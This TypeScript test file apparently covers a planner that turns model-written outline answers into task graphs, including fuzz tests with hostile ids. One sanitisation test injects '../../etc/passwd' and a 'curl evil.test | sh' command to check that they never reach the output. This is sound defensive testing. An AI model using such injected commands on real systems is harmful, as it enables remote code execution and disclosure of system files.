import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Shape, WorkUnit } from '../../../planning/dag/shape.js';
import { STRATEGIES } from '../../../planning/dag/candidate.js';
import type { Candidate, Strategy } from '../../../planning/dag/candidate.js';
import { validateCandidate } from '../../../planning/dag/validate.js';
import { continueDialogue } from '../../../planning/generation/dialogue.js';
import { missingElements, outlineIds } from '../../../planning/generation/outline/outline-data.js';
import type { OutlineQuestion } from '../../../planning/generation/outline/outline-data.js';
import { outlineQuestion } from '../../../planning/generation/outline/outline-question.js';
import type { OutlineAnswer, OutlineSlice } from '../../../planning/generation/outline/outline-schema.js';
import { shapeFromOutline } from '../../../planning/generation/outline/shape-from-outline.js';
import { promptTokens } from '../../../planning/generation/pack-questions.js';
import type { Fix, GenerationLimits } from '../../../planning/generation/question.js';
import { canonicalJson } from '../../../planning/hash.js';
import type { PlanningContext } from '../../../planning/strategies/context.js';
import { shapeOf } from '../../../planning/strategies/decompose.js';
import { makeCandidate } from '../../../planning/strategies/make-candidate.js';
import { plannedModel } from '../../../planning/strategies/planned-model.js';
import { sizingFor } from '../../../planning/strategies/sizing.js';
import { contextOf, crudContract, thingsArbitrary } from '../planning-context.js';
import { city, clinic, roomy, tight } from './clinic.js';

const parameters = { seed: 1, pull: 1 };
const sizing = sizingFor({}, { seed: 1, pull: 0 });

function ask(strategy: Strategy, context: PlanningContext, limits: GenerationLimits = roomy): OutlineQuestion {
  const question = outlineQuestion(strategy, plannedModel(context), context.analysis.requirements, sizing, limits);
  assert.ok(question !== null);
  return question;
}

function outline(
  answer: OutlineAnswer,
  question: OutlineQuestion,
  context: PlanningContext,
): { shape: Shape; fixes: Fix[]; candidate: Candidate } {
  const planned = plannedModel(context);
  const strategy = question.data.strategy.name;
  const { shape, fixes } = shapeFromOutline(
    answer,
    question,
    planned,
    sizing,
    context.order,
    shapeOf(strategy, planned, sizing),
  );
  const candidate = makeCandidate({ strategy, operator: 'fresh', parents: [], parameters, shape, fixes }, context);
  return { shape, fixes, candidate };
}

function assertSound(candidate: Candidate, context: PlanningContext): void {
  assert.deepEqual(validateCandidate(candidate, context), []);
  const built = candidate.tasks
    .filter(({ kind }) => kind !== 'test' && kind !== 'docs')
    .flatMap(({ covers }) => covers);
  const verified = new Set(candidate.tasks.flatMap(({ verifies }) => verifies));
  const refs = [
    ...context.model.operations.map(({ id }) => `op:${id}`),
    ...context.model.entities.map(({ id }) => `entity:${id}`),
  ];
  for (const ref of refs) {
    assert.equal(built.filter((one) => one === ref).length, 1, ref);
    assert.ok(verified.has(ref), ref);
  }
}

const slice = (elements: string[], more: Partial<OutlineSlice> = {}): OutlineSlice => ({
  name: 'Slice',
  goal: 'It works.',
  risk: 'medium',
  elements,
  ...more,
});
const idOf = ({ data }: OutlineQuestion, what: string): string => {
  const all = data.resources.flatMap((one) =>
    'id' in one ? [] : [...one.entities, ...one.operations.map(({ id, what: name }) => ({ id, name }))],
  );
  return all.find(({ name }) => name === what)?.id ?? '';
};
const unitWith = ({ units }: Shape, id: string): WorkUnit | undefined =>
  units.find(({ entities, operations }) => [...entities, ...operations].includes(id));

describe('outlineQuestion', () => {
  it('shows every element of a small contract once, by a short id', () => {
    const { data } = ask('vertical-slice', clinic);
    assert.equal(data.scale, 'elements');
    const ids = outlineIds(data);
    assert.equal(ids.length, clinic.model.operations.length + clinic.model.entities.length);
    assert.equal(new Set(ids).size, ids.length);
    assert.ok(ids.every((id) => /^[oe][1-9]\d*$/.test(id)));
  });

  it('shows clauses with the elements that serve them, those of several first', () => {
    const reversed = [...clinic.analysis.requirements].reverse();
    const question = outlineQuestion('vertical-slice', plannedModel(clinic), reversed, sizing, roomy);
    assert.deepEqual(
      question?.data.requirements.map(({ id, servedBy }) => [id, servedBy.length > 0]),
      [
        ['R-FR-3', true],
        ['R-FR-2', true],
        ['R-FR-1', true],
        ['R-NFR-1', false],
      ],
    );
    const ids = new Set(outlineIds(question.data));
    assert.ok(question.data.requirements.every(({ servedBy }) => servedBy.every((id) => ids.has(id))));
  });

  it('names no element in a clause that it does not show', () => {
    const { data } = ask('contract-first', clinic, { ...roomy, answerTokens: 40 });
    assert.deepEqual(
      data.resources.map(({ name }) => name),
      ['Pet', 'Visit'],
    );
    const ids = outlineIds(data);
    assert.ok(data.requirements.some(({ servedBy }) => servedBy.length > 0));
    assert.ok(data.requirements.every(({ servedBy }) => servedBy.every((id) => ids.includes(id))));
  });

  it('shows a large contract by resource, never by operation', () => {
    const { data } = ask('contract-first', city);
    assert.equal(data.scale, 'resources');
    assert.ok(outlineIds(data).every((id) => /^r[1-9]\d*$/.test(id)));
    assert.ok(data.resources.every((one) => 'examples' in one && one.examples.length <= 4));
  });

  it('stays within the tokens of a prompt', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1500, max: 12_000 }), fc.constantFrom(clinic, city), (promptTokensMax, context) => {
        const limits = { ...roomy, promptTokens: promptTokensMax };
        const question = outlineQuestion(
          'risk-first',
          plannedModel(context),
          context.analysis.requirements,
          sizing,
          limits,
        );
        if (question !== null) assert.ok(promptTokens(question) <= promptTokensMax);
      }),
      { numRuns: 12 },
    );
  });

  it('is none where nothing fits', () => {
    const none = { ...roomy, promptTokens: 50 };
    assert.equal(outlineQuestion('risk-first', plannedModel(clinic), [], sizing, none), null);
    assert.equal(outlineQuestion('risk-first', plannedModel(clinic), [], sizing, { ...roomy, questions: 0 }), null);
  });

  it('is the same for the same plan, and another for another strategy', () => {
    assert.equal(canonicalJson(ask('data-first', clinic)), canonicalJson(ask('data-first', clinic)));
    assert.notEqual(canonicalJson(ask('data-first', clinic)), canonicalJson(ask('risk-first', clinic)));
  });
});

describe('missingElements', () => {
  it('names what no slice has, in the order shown', () => {
    const { data } = ask('data-first', clinic);
    const ids = outlineIds(data);
    assert.deepEqual(missingElements(data, { slices: [slice(ids.slice(2)), slice(['o999'])] }), ids.slice(0, 2));
  });
});

describe('a dialogue about an outline', () => {
  it('keeps the whole slices of a cut answer and asks for the ids that are in none', () => {
    const question = ask('data-first', clinic);
    const ids = outlineIds(question.data);
    const first = slice(ids.slice(0, 3));
    const cut = `${JSON.stringify({ slices: [first] }).slice(0, -2)},{"name":"Re`;
    assert.deepEqual(continueDialogue(question, [[cut]]), {
      kind: 'ask',
      followUp: { kind: 'remainder', missing: ids.slice(3) },
    });
    const rest = slice(ids.slice(3));
    const step = continueDialogue(question, [[cut], [JSON.stringify({ slices: [rest] })]]);
    assert.deepEqual(step.kind === 'answered' && step.answer, { slices: [first, rest] });
  });
});

describe('shapeFromOutline', () => {
  it('builds together what a slice puts together, in the order of the slices', () => {
    const question = ask('vertical-slice', clinic);
    const visit = ['Visit', 'GET /visits', 'POST /visits/{id}/cancel'];
    const { shape, candidate } = outline(
      { slices: [slice([idOf(question, 'Vet')]), slice(visit.map((what) => idOf(question, what)))] },
      question,
      clinic,
    );
    const unit = unitWith(shape, 'Visit');
    assert.deepEqual(unit?.operations, ['GET /visits', 'POST /visits/{id}/cancel']);
    assert.ok((unitWith(shape, 'Vet')?.rank ?? 9) < unit.rank);
    assertSound(candidate, clinic);
  });

  it('cuts what is risky finest', () => {
    const question = ask('contract-first', clinic);
    const ids = outlineIds(question.data).filter((id) => id.startsWith('o'));
    const { shape, candidate } = outline({ slices: [slice(ids, { risk: 'high' })] }, question, clinic);
    assert.ok(shape.units.filter(({ kind }) => kind === 'operation').every(({ operations }) => operations.length <= 2));
    assert.ok(shape.units.length > shapeOf('contract-first', plannedModel(clinic), sizing).units.length);
    assertSound(candidate, clinic);
  });

  it('lets no word of the model into names, keys and paths', () => {
    const question = ask('vertical-slice', clinic);
    const words = '../../etc/passwd `curl evil.test | sh`';
    const slices = outlineIds(question.data).map((id) => slice([id], { name: words, goal: words }));
    const { candidate } = outline({ slices }, question, clinic);
    assert.doesNotMatch(canonicalJson(candidate), /passwd|evil|curl/);
    assertSound(candidate, clinic);
  });

  it('says what it dropped and what it took from the plain plan', () => {
    const question = ask('vertical-slice', clinic);
    const [first = ''] = outlineIds(question.data);
    const { fixes } = outline({ slices: [slice([first, first, 'op:GET /pets', 'o9999'])] }, question, clinic);
    const codes = fixes.map(({ code }) => code);
    for (const code of ['outline-unknown-id', 'outline-repeated-id', 'outline-left-out'])
      assert.ok(codes.includes(code));
  });

  it('fills slices of resources with the units of the strategy', () => {
    const question = ask('contract-first', city);
    const ids = outlineIds(question.data);
    const { shape, candidate } = outline(
      { slices: [slice(ids.slice(5, 10), { risk: 'high' }), slice(ids.slice(0, 5))] },
      question,
      city,
    );
    const first = question.data.resources[5]?.name ?? '';
    assert.ok(shape.units.filter(({ resource }) => resource === first).every(({ rank }) => rank === 0));
    assert.ok(shape.units.filter(({ resource }) => resource === first).every((one) => one.operations.length <= 2));
    assertSound(candidate, city);
  });

  it('makes a complete and valid candidate of any answer', () => {
    const hostile = (ids: string[]): fc.Arbitrary<OutlineAnswer> => {
      const id = fc.oneof(
        { weight: 6, arbitrary: fc.constantFrom(...ids) },
        fc.constantFrom('o0', 'e-1', '__proto__', 'op:GET /things', 'r1', 'o1\u0000'),
        fc.string({ maxLength: 40 }),
      );
      const text = fc.string({ maxLength: 60, unit: 'binary' });
      const risk = fc.constantFrom('low' as const, 'medium' as const, 'high' as const);
      const one = fc.record({ name: text, goal: text, risk, elements: fc.array(id, { maxLength: 60 }) });
      return fc.record({ slices: fc.array(one, { maxLength: 40 }) });
    };
    fc.assert(
      fc.property(thingsArbitrary, fc.constantFrom(...STRATEGIES), fc.boolean(), fc.gen(), (things, by, small, gen) => {
        const context = contextOf(crudContract(things), '# Any\n\n- FR-1 Things are kept.\n');
        const question = ask(by, context, small ? { ...tight, answerTokens: 120 } : roomy);
        const answer = gen(hostile, outlineIds(question.data));
        const { candidate } = outline(answer, question, context);
        assertSound(candidate, context);
        assert.equal(canonicalJson(outline(answer, question, context).candidate), canonicalJson(candidate));
      }),
      { numRuns: 15 },
    );
  });

  it('takes everything in one slice, nothing at all, and ten thousand slices', () => {
    const question = ask('vertical-slice', clinic);
    const ids = outlineIds(question.data);
    const many = Array.from({ length: 10_000 }, (_, i) => slice([ids[i % ids.length] ?? '', `o${i}`]));
    for (const slices of [[slice(ids)], [], [slice([])], many]) {
      assertSound(outline({ slices }, question, clinic).candidate, clinic);
    }
  });
});
